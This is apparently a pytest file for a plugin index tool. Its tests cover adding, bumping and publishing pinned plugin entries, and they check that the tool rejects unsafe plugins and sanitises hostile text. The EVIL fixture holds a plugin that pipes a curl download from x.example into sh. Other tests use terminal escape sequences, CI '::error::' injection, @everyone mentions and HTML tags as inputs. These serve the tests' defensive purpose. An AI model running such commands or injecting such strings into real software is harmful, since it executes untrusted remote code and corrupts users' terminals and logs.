"""Keeping an index with the installed packtool: real repositories over smart HTTP, an index file in a folder."""

from __future__ import annotations

import json
import re
from concurrent.futures import ThreadPoolExecutor
from typing import TYPE_CHECKING, Any

import pytest
from git_repositories import Repository
from index_server import Page
from sample_plugins import below, native

if TYPE_CHECKING:
    from pathlib import Path

    from installed import Bench, Run

EMPTY: dict[str, Any] = {"schema_version": 1, "generated_at": "2026-01-01T00:00:00Z", "plugins": []}
EVIL = b"import os\n\n\ndef register(ctx):\n    os.system('curl -s https://x.example/i.sh | sh')\n"
QUIET = b"def register(ctx):\n    return None\n"
CODE_SPAN = re.compile(r"(?<!`)(`+)(?!`).+?(?<!`)\1(?!`)")


def put(bench: Bench, document: dict[str, Any], name: str = "index.json") -> Path:
    path = bench.folder / name
    path.write_text(json.dumps(document, indent=2) + "\n", encoding="utf-8")
    return path


def got(path: Path) -> dict[str, Any]:
    found = json.loads(path.read_text(encoding="utf-8"))
    assert isinstance(found, dict)
    return found


def add(bench: Bench, where: str, *words: str) -> Run:
    return bench.run("index", "add", bench.git.url(where), "--allow-local", "--date", "2026-02-03", *words)


def bump(bench: Bench, *words: str) -> Run:
    return bench.run("index", "bump", *words, "--allow-local")


def entry(bench: Bench, name: str, repository: str, commit: str, **more: Any) -> dict[str, Any]:
    return {
        "name": name,
        "description": "Notes of all kinds.",
        "repo": bench.git.url(repository),
        "ref": commit,
        **more,
    }


def test_add_writes_the_entry_that_the_manifest_gives(bench: Bench) -> None:
    commit = bench.repository("notes.git").commit(native("notes", "author: Ann", "kind: platform"))
    path = put(bench, {**EMPTY, "later": {"kept": [1, 2]}})
    path.chmod(0o640)

    run = add(bench, "notes.git")

    assert run.code == 0, run.out + run.err
    assert "added notes 1.0.0" in run.out
    document = got(path)
    assert document["plugins"] == [
        {
            "name": "notes",
            "description": "The notes plugin.",
            "author": "Ann",
            "tags": ["platform"],
            "repo": bench.git.url("notes.git"),
            "ref": commit,
            "subdir": None,
            "homepage": "",
            "capabilities": ["platform"],
            "api_version": 1,
            "added_at": "2026-02-03",
        }
    ]
    assert document["later"] == {"kept": [1, 2]}
    assert path.stat().st_mode & 0o777 == 0o640
    again = add(bench, "notes.git")
    assert again.code == 2
    assert "packtool index bump notes" in again.err


def test_add_takes_a_folder_at_a_tag_and_shows_a_dry_run(bench: Bench) -> None:
    repository = bench.repository("mono.git")
    commit = repository.commit(below("plugins/notes", native("notes")))
    repository.tag("v1")
    repository.commit(below("plugins/notes", native("notes", "license: MIT")))
    path = put(bench, EMPTY)
    before = path.read_bytes()

    dry = add(bench, "mono.git/plugins/notes", "--tag", "v1", "--dry-run")

    assert dry.code == 0, dry.out + dry.err
    assert f'+      "ref": "{commit}",' in dry.out
    assert '+      "subdir": "plugins/notes",' in dry.out
    assert path.read_bytes() == before
    assert add(bench, "mono.git/plugins/notes", "--tag", "v1").code == 0
    assert got(path)["plugins"][0]["ref"] == commit


def test_add_writes_nothing_that_fails(bench: Bench) -> None:
    bench.repository("evil.git").commit({**native("evil"), "__init__.py": EVIL})
    bench.repository("empty.git").commit({"README.md": b"Nothing.\n"})
    path = put(bench, EMPTY)
    before = path.read_bytes()

    evil = add(bench, "evil.git")
    empty = add(bench, "empty.git", "--json")
    away = add(bench, "nowhere.git")
    tag = add(bench, "evil.git", "--tag", "v9")

    assert evil.code == 1, evil.out
    assert "index.json stays as it is; not done" in evil.out
    assert empty.code == 1
    assert "keep-nothing-there" in empty.rules
    assert away.code == 2
    assert tag.code == 2
    assert "has no tag v9" in tag.err
    assert path.read_bytes() == before


def test_bump_goes_ahead_only_and_shows_what_is_new(bench: Bench) -> None:
    repository = bench.repository("notes.git")
    old = repository.commit(native("notes"))
    middle = repository.commit(native("notes", "license: MIT"))
    new = repository.commit(native("notes", "requires_env: [NOTES_TOKEN]"))
    path = put(bench, {**EMPTY, "plugins": [entry(bench, "notes", "notes.git", middle, yanked="broken")]})
    before = path.read_bytes()

    dry = bump(bench, "notes")
    assert dry.code == 0, dry.out + dry.err
    assert f"{middle[:12]} -> {new[:12]}, ahead by 1 commit" in dry.out
    assert "new  env: NOTES_TOKEN" in dry.out
    assert f'+      "ref": "{new}",' in dry.out or f'+      "ref": "{new}"' in dry.out
    assert path.read_bytes() == before

    rewound = bump(bench, "notes", "--to", old, "--write", "--json")
    assert rewound.code == 1
    assert rewound.rules == ["keep-not-ahead"]
    assert path.read_bytes() == before

    assert bump(bench, "notes", "--write").code == 0
    assert got(path)["plugins"][0]["ref"] == new
    assert "yanked" not in got(path)["plugins"][0]
    assert "at the newest commit (1): notes" in bump(bench, "--all").out


def test_bump_leaves_what_fails_is_held_sideways_or_unchanged(bench: Bench) -> None:
    entries = []
    for name in ("fails", "held", "moves", "sideways"):
        old = bench.repository(f"{name}.git").commit(native(name))
        entries.append(entry(bench, name, f"{name}.git", old))
    entries[1]["hold"] = "until the next release"
    for name, code in (("fails", EVIL), ("held", QUIET), ("moves", QUIET)):
        Repository(path=bench.git.root / f"{name}.git").commit({**native(name), "__init__.py": code})
    sideways = Repository(path=bench.git.root / "sideways.git")
    sideways.git("update-ref", "refs/heads/old", "main")
    sideways.commit_tree(sideways.tree())
    entries.append(entry(bench, "gone", "nowhere.git", "a" * 40))
    path = put(bench, {**EMPTY, "plugins": entries})

    run = bump(bench, "--all", "--write", "--json")

    assert run.code == 1
    states = {one["name"]: one["state"] for one in run.report["details"]["entries"]}
    assert states == {"fails": "fails", "held": "held", "moves": "bumped", "sideways": "not ahead", "gone": "gone"}
    after = {one["name"]: one["ref"] for one in got(path)["plugins"]}
    changed = [one["name"] for one in entries if after[one["name"]] != one["ref"]]
    assert changed == ["moves"]
    held = bump(bench, "held", "--json")
    assert held.code == 1
    assert held.rules == ["keep-held-asked"]
    assert bump(bench, "gone", "--json").rules == ["keep-repository-gone"]
    assert bump(bench, "sideways").code == 1


def test_a_pull_request_body_neutralises_what_strangers_write(bench: Bench) -> None:
    repository = bench.repository("notes.git")
    old = repository.commit(native("notes"))
    repository.commit(native("notes", "requires_env: ['A|B`C@everyone<img>']"))
    put(bench, {**EMPTY, "plugins": [entry(bench, "a|b`c @everyone <img>", "notes.git", old)]})

    run = bump(bench, "--all", "-o", "markdown")

    assert "### Pins moved ahead" in run.out
    assert "@everyone" in run.out
    bare = CODE_SPAN.sub("", run.out)
    assert "<img>" not in bare
    assert "@everyone" not in bare


@pytest.mark.parametrize(
    ("words", "remedy"),
    [
        ((), "try: packtool index bump"),
        (("notes", "--all"), "try: packtool index bump"),
        (("--all", "--to", "0" * 40), "try: name the entry"),
    ],
)
def test_bump_wants_to_know_which(bench: Bench, words: tuple[str, ...], remedy: str) -> None:
    put(bench, EMPTY)
    run = bump(bench, *words)
    assert run.code == 2
    assert remedy in run.err


def test_two_adds_at_the_same_time_lose_nothing(bench: Bench) -> None:
    names = ("clock", "notes", "relay")
    for name in names:
        bench.repository(f"{name}.git").commit(native(name))
    path = put(bench, EMPTY)

    with ThreadPoolExecutor(len(names)) as pool:
        runs = list(pool.map(lambda name: add(bench, f"{name}.git"), names))

    assert [run.code for run in runs] == [0, 0, 0], [run.out + run.err for run in runs]
    assert [one["name"] for one in got(path)["plugins"]] == list(names)


def test_the_oldest_pins_go_first_and_no_more_than_the_limit(bench: Bench) -> None:
    entries = []
    for name, age in (("young", 300), ("oldest", 100), ("old", 200)):
        repository = bench.repository(f"{name}.git")
        repository.commit(native(name))
        tree = repository.git("rev-parse", "main^{tree}")
        pinned = dated(repository, tree, age)
        repository.commit(native(name, "license: MIT"))
        entries.append(entry(bench, name, f"{name}.git", pinned))
    path = put(bench, {**EMPTY, "plugins": entries})

    run = bump(bench, "--all", "--limit", "2", "--write", "--json")

    assert run.code == 0, run.out
    states = {one["name"]: one["state"] for one in run.report["details"]["entries"]}
    assert states == {"young": "later", "oldest": "bumped", "old": "bumped"}
    after = {one["name"]: one["ref"] for one in got(path)["plugins"]}
    assert after["young"] == entries[0]["ref"]


def dated(repository: Repository, tree: str, seconds: int) -> str:
    """Put a commit of this age, in seconds since 1970, on main; returns its id."""
    script = f"commit refs/heads/main\ncommitter Ann <ann@example.org> {seconds} +0000\ndata 1\na\nM 040000 {tree} \n"
    repository.git("update-ref", "-d", "refs/heads/main")
    repository.git("fast-import", "--quiet", "--force", stdin=script.encode())
    return repository.git("rev-parse", "main")


def test_publishing_is_held_against_what_is_served(bench: Bench) -> None:
    old = bench.repository("notes.git").commit(native("notes"))
    served = put(bench, {**EMPTY, "plugins": [entry(bench, "notes", "notes.git", old)]}, "served.json")
    bench.index.pages["/index.json"] = Page(body=served.read_bytes())
    put(bench, EMPTY)
    publish = ("index", "publish", "--out", "site.json", "--allow-local", "--date", "2026-05-01")

    lost = bench.run(*publish, "--previous", bench.index.url("/index.json"), "--json")
    away = bench.run(*publish, "--previous", bench.index.url("/nowhere.json"), "--json")

    assert lost.code == 1
    assert lost.rules == ["publish-drops"]
    assert away.code == 2
    assert away.report["verdict"] is None
    assert not (bench.folder / "site.json").exists()

    allowed = (*publish, "--previous", bench.index.url("/index.json"), "--allow-shrink", "Asked for.", "--log", "log")
    assert bench.run(*allowed).code == 0
    assert got(bench.folder / "site.json")["plugins"] == []
    assert bench.run("index", "log", "--file", "site.json", "--verify").code == 0
    put(bench, {**EMPTY, "generated_at": "2026-06-01T00:00:00Z"}, "site.json")
    cut = bench.run("index", "log", "--file", "site.json", "--verify", "--json")
    assert cut.code == 1
    assert cut.rules == ["log-ends"]


def test_hostile_words_reach_nobody_as_they_are(bench: Bench) -> None:
    name = "n\x1b[2J%0A::error::x"
    old = bench.repository("n.git").commit(native("n"))
    put(bench, {**EMPTY, "plugins": [entry(bench, name, "n.git", old, hold="\x1b]0;owned\x07<b>@all</b>")]})

    for words in (("--all",), ("--all", "-o", "markdown"), ("--all", "-o", "github")):
        run = bump(bench, *words)
        assert "\x1b" not in run.out + run.err
        assert not [line for line in run.out.splitlines() if line.startswith("::error::")]
        assert "<b>" not in CODE_SPAN.sub("", run.out) or words == ("--all",)


def test_what_a_law_of_the_index_fails_is_not_written(bench: Bench) -> None:
    repository = bench.repository("notes.git")
    old = repository.commit(native("notes"))
    other = bench.repository("other.git").commit(native("other"))
    repository.commit(native("paper"))
    Repository(path=bench.git.root / "other.git").commit(native("other", "requires_env: [OTHER_TOKEN]"))
    path = put(
        bench,
        {**EMPTY, "plugins": [entry(bench, "notes", "notes.git", old), entry(bench, "other", "other.git", other)]},
    )

    run = bump(bench, "--all", "--write", "--json")
    added = bench.run(
        "index", "add", bench.git.url("other.git"), "--allow-local", "--name", "nothing-like-it", "--json"
    )

    assert run.code == 1
    assert [(one["name"], one["state"]) for one in run.report["details"]["entries"]] == [
        ("notes", "fails"),
        ("other", "bumped"),
    ]
    assert "review-name-differs" in run.rules
    assert "review-new-since-old-pin" in run.rules
    assert got(path)["plugins"][0]["ref"] == old
    assert got(path)["plugins"][1]["ref"] != other
    assert added.code == 2, "the place has an entry already"
